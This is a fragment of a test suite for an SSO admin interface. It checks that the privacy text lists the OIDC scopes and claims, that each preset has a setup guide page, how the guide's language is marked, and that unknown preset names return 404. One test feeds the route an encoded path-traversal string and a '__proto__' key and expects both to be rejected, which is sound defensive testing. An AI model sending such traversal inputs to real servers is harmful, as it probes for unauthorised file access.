    expect(text).toContain('The scopes are “openid email profile” and no others')
    expect(text).toContain('Nothing is synchronised')
    for (const claim of [
      'iss, sub',
      'email_verified',
      'sid',
      'auth_time, acr',
      'name, given_name, family_name',
    ])
      expect(text).toContain(claim)
    expect(text).toContain('Roles, groups, departments')
  })
})

describe('the setup guide', () => {
  it.each(presets.map(({ name }) => [name]))('has a page for %s', async (name) => {
    await open()
    const { status, body } = await page(`/new/${name}/guide`)
    expect([status, body]).toEqual([200, expect.stringContaining('<h2>')])
    expect(body).toContain(`href="/admin/sso/new/${name}"`)
    expect(body).not.toContain('This guide is in English.')
  })

  it('is marked as English in another language', async () => {
    await open()
    for (const path of ['/new/okta/guide', '/new/okta']) {
      const { body } = await page(`${path}?lang=ar`)
      expect(body).toMatch(/<html lang="ar" dir="rtl">[\s\S]*<div lang="en" dir="ltr">\s*<p>/)
    }
  })

  it('links to other guides below the path where the host mounted the admin pages', async () => {
    await open()
    expect((await page('/new/ping/guide')).body).toContain('href="/admin/sso/new/generic/guide"')
  })

  it.each(['nothing', '..%2f..%2fpackage', '__proto__'])(
    'has no page for %s, which is not a preset',
    async (name) => {
      await open()
      expect((await page(`/new/${name}/guide`)).status).toBe(404)
    },
  )
})
